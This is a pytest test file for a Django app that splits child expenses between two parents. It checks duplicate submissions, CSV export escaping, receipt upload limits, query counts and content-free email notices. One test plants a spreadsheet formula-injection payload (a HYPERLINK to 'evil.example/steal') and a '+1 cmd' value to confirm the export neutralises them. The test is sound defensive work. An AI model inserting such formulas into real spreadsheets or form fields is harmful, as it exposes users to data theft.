"""Expense pages with the test client: logging a bill (once, whatever the retries), what
is refused, a CSV safe in a spreadsheet, queries that do not grow with the history, and
content-free emails held through quiet hours (through a real SMTP server)."""

from __future__ import annotations

import csv
import io
import time
from collections.abc import Iterator
from datetime import timedelta
from decimal import Decimal
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from tests.expenses.conftest import log, png_bytes
from tests.mailbox import Mailbox, smtp_mailbox, use_smtp
from twohomes.expenses import notify, services
from twohomes.expenses.models import Expense, ExpenseNotice, ExpenseReceipt
from twohomes.families.access import in_family
from twohomes.records.models import LogEntry


def _url(name: str, world: Any, *args: Any) -> str:
    return reverse(name, args=[world.family.pk, *args])


def _bill(world: Any, **extra: Any) -> dict[str, Any]:
    return {"category": "medical", "amount": "45.50", "payee": "Pharmacy",
            "spent_on": world.family.today(timezone.now()).isoformat(), "note": "",
            "mine": "", "theirs": "", "repeat": "", "until": "", **extra}


def test_the_list_and_the_detail_show_the_bill(world: Any, login: Any) -> None:
    expense = log(world, "120.00", payee="Dr Smith", note="Check-up")
    client = login(world.parent_b)
    listed = client.get(_url("expense_list", world))
    assert listed.status_code == 200 and "Dr Smith" in listed.content.decode()
    detail = client.get(_url("expense_detail", world, expense.pk)).content.decode()
    assert "Dr Smith" in detail and "Check-up" in detail and "£60.00" in detail
    assert "£120.00" in detail
    balance = client.get(_url("expense_balance", world)).content.decode()
    assert "Nobody owes anything." in balance


def test_a_new_bill_sent_twice_is_logged_once(world: Any, login: Any) -> None:
    client = login(world.parent_a)
    assert client.get(_url("expense_new", world)).status_code == 200
    data = _bill(world, once="e" * 32, mine="1", theirs="2")
    first = client.post(_url("expense_new", world), data)
    expense = Expense.objects.get()
    assert first.status_code == 302
    assert first["Location"] == _url("expense_detail", world, expense.pk)
    again = client.post(_url("expense_new", world), data, follow=True)
    assert "nothing was sent twice" in again.content.decode()
    assert Expense.objects.count() == 1
    assert (expense.amount, expense.asked, expense.payee) == (Decimal("45.50"),
                                                               Decimal("30.33"), "Pharmacy")
    assert (expense.paid_by_id, expense.other_id) == (world.parent_a.pk, world.parent_b.pk)


def test_the_csv_never_starts_a_cell_with_a_formula(world: Any, login: Any) -> None:
    payee = '=HYPERLINK("http://evil.example/steal","Click")'
    expense = log(world, "10.00", payee=payee)
    with in_family(world.family):
        services.agree_expense(actor=world.parent_b, expense=expense, now=timezone.now())
        services.record_payment(
            actor=world.parent_b, amount=Decimal("5.00"),
            paid_on=world.family.today(timezone.now()), method="cash", reference="+1 cmd",
            expenses=[expense], as_credit=False, now=timezone.now())
    response = login(world.parent_a).get(_url("expense_export", world))
    assert response["Content-Type"].startswith("text/csv")
    table = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    head = table[0]
    row = next(r for r in table if r[0] == "Expense")
    assert row[head.index("Paid to")] == "'" + payee
    assert row[head.index("Amount")] == "10.00" and row[head.index("Still to pay")] == "0.00"
    paid = next(r for r in table if r[0] == "Payment")
    assert paid[head.index("Reference")] == "'+1 cmd"
    for cell in (c for r in table for c in r):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def _refused_upload(world: Any, login: Any, upload: SimpleUploadedFile, media: Any) -> str:
    before = (Expense.objects.count(), ExpenseReceipt.objects.count(),
              LogEntry.objects.count())
    response = login(world.parent_a).post(_url("expense_new", world),
                                          {**_bill(world), "receipts": [upload]})
    assert response.status_code == 200
    assert (Expense.objects.count(), ExpenseReceipt.objects.count(),
            LogEntry.objects.count()) == before
    assert [p for p in media.rglob("*") if p.is_file()] == []
    return str(response.content.decode())


def test_a_50_mb_receipt_is_refused_and_nothing_is_saved(world: Any, login: Any,
                                                        media: Any) -> None:
    big = SimpleUploadedFile("scan.pdf", b"%PDF-1.4\n" + b"0" * (50 * 1024 * 1024),
                             content_type="application/pdf")
    page = _refused_upload(world, login, big, media)
    assert "larger than 10 MB" in page


def test_a_text_file_named_pdf_is_refused(world: Any, login: Any, media: Any) -> None:
    fake = SimpleUploadedFile("receipt.pdf", b"just some words, not a PDF",
                              content_type="application/pdf")
    page = _refused_upload(world, login, fake, media)
    assert "is not a PDF or an image" in page


def test_a_receipt_image_is_kept_and_served_to_the_parents(world: Any, login: Any,
                                                          media: Any) -> None:
    photo = SimpleUploadedFile("till.png", png_bytes(), content_type="image/png")
    response = login(world.parent_a).post(_url("expense_new", world),
                                          {**_bill(world), "receipts": [photo]})
    assert response.status_code == 302
    stored = ExpenseReceipt.objects.get()
    served = login(world.parent_b).get(_url("expense_receipt", world, stored.pk))
    assert b"".join(served.streaming_content).startswith(b"\x89PNG")


def _grow(world: Any, times: int) -> None:
    """``times`` rounds: a bill each way (agreed, countered, disputed), a voided one, and a
    confirmed payment."""
    now = timezone.now()
    with in_family(world.family):
        for n in range(times):
            mine = log(world, f"{10 + n}.00", payee=f"a{n}", now=now)
            theirs = log(world, f"{20 + n}.00", actor=world.parent_b, payee=f"b{n}", now=now)
            services.agree_expense(actor=world.parent_b, expense=mine, now=now)
            services.counter_expense(actor=world.parent_a, expense=theirs,
                                     share=Decimal("1.00"), reason="r", now=now)
            gone = log(world, "5.00", payee=f"c{n}", now=now)
            services.dispute_expense(actor=world.parent_b, expense=gone, reason="no", now=now)
            services.void_expense(actor=world.parent_a, expense=gone, reason="x", now=now)
            payment = services.record_payment(
                actor=world.parent_b, amount=Decimal("1.00"), paid_on=world.family.today(now),
                method="cash", reference="", expenses=[mine], as_credit=False, now=now)
            services.confirm_payment(actor=world.parent_a, payment=payment, now=now)


def _counts(client: Any, world: Any, expense: Any) -> dict[str, int]:
    counts = {}
    for name, args in (("expense_list", []), ("expense_detail", [expense.pk]),
                       ("expense_balance", []), ("expense_export", []),
                       ("expense_new", []), ("payment_new", []),
                       ("expense_categories", [])):
        with CaptureQueriesContext(connection) as queries:
            response = client.get(_url(name, world, *args))
        assert response.status_code == 200, name
        counts[name] = len(queries)
    return counts


def test_pages_ask_no_more_of_the_database_as_the_expenses_grow(world: Any,
                                                               login: Any) -> None:
    shown = log(world, "99.00", payee="Shown")
    client = login(world.parent_b)
    _grow(world, 3)
    _counts(client, world, shown)  # caches warm
    small = _counts(client, world, shown)
    _grow(world, 30)
    _counts(client, world, shown)
    assert _counts(client, world, shown) == small


@pytest.fixture
def smtp(settings: Any) -> Iterator[Mailbox]:
    with smtp_mailbox() as (mailbox, port):
        use_smtp(settings, port)
        yield mailbox


def _nothing_more(mailbox: Mailbox, wait: float = 0.5) -> list[Any]:
    time.sleep(wait)
    return list(mailbox.received)


SECRETS = ("45.50", "45,50", "Pharmacy-Quill", "Antibiotics for Ada")


def test_a_new_bill_sends_bruno_one_email_without_its_content(
        transactional_db: Any, world: Any, login: Any, smtp: Mailbox) -> None:
    response = login(world.parent_a).post(_url("expense_new", world), _bill(
        world, payee="Pharmacy-Quill", note="Antibiotics for Ada"))
    assert response.status_code == 302
    subject, body = smtp.wait_for(world.parent_b.user.email)
    assert subject == "TwoHomes"
    assert _url("expense_list", world) in body
    for secret in SECRETS:
        assert secret not in body and secret not in subject, secret
    assert _nothing_more(smtp) == []  # one email, and none to Alice


def test_an_email_waits_for_the_end_of_quiet_hours(transactional_db: Any, world: Any,
                                                    smtp: Mailbox) -> None:
    from twohomes.messaging.models import NotificationPreference

    now = timezone.now()
    local = now.astimezone(world.family.zone)
    NotificationPreference.objects.create(
        membership=world.parent_b, quiet_start=(local - timedelta(hours=1)).time(),
        quiet_end=(local + timedelta(hours=1)).time())
    log(world, "45.50", payee="Pharmacy-Quill", note="Antibiotics for Ada", now=now)
    notice = ExpenseNotice.objects.get(membership=world.parent_b)
    quiet_end = (local + timedelta(hours=1)).replace(second=0, microsecond=0)
    assert notice.due_at == quiet_end and notice.sent_at is None
    assert _nothing_more(smtp) == []
    assert notify.send_all_due(now=quiet_end - timedelta(minutes=1)) == 0
    assert _nothing_more(smtp, 0.2) == []
    assert notify.send_all_due(now=quiet_end + timedelta(minutes=1)) == 1
    subject, body = smtp.wait_for(world.parent_b.user.email)
    for secret in SECRETS:
        assert secret not in body, secret
    assert notify.send_all_due(now=quiet_end + timedelta(minutes=2)) == 0
    assert _nothing_more(smtp) == []


def test_the_balance_page_lists_the_periods_payments(world: Any, login: Any) -> None:
    """Each figure opens onto what is behind it: the payments behind "paid you"."""
    now = timezone.now()
    today = world.family.today(now)
    with in_family(world.family):
        bill = log(world, "120.00", payee="Dentist", now=now)
        services.agree_expense(actor=world.parent_b, expense=bill, now=now)
        paid = services.record_payment(
            actor=world.parent_b, amount=Decimal("70.00"), paid_on=today, method="bank",
            reference="REF-42", expenses=[bill], as_credit=True, now=now)
        services.confirm_payment(actor=world.parent_a, payment=paid, now=now)
        services.record_payment(
            actor=world.parent_b, amount=Decimal("5.00"), paid_on=today - timedelta(days=40),
            method="cash", reference="", expenses=[], as_credit=True, now=now)
    client = login(world.parent_a)
    page = " ".join(client.get(_url("expense_balance", world)).content.decode().split())
    # 70.00 against a 60.00 share: 10.00 kept as credit; the older 5.00 waits for Alice.
    assert "Bruno paid Alice £70.00 (Bank transfer) · REF-42 · confirmed · £10.00 kept as " \
           "credit" in page
    assert "Bruno paid Alice £5.00 (Cash) · not confirmed yet" in page
    recent = f"?start={(today - timedelta(days=7)).isoformat()}"
    narrowed = " ".join(client.get(_url("expense_balance", world) + recent)
                        .content.decode().split())
    assert "£70.00 (Bank transfer)" in narrowed and "£5.00 (Cash)" not in narrowed
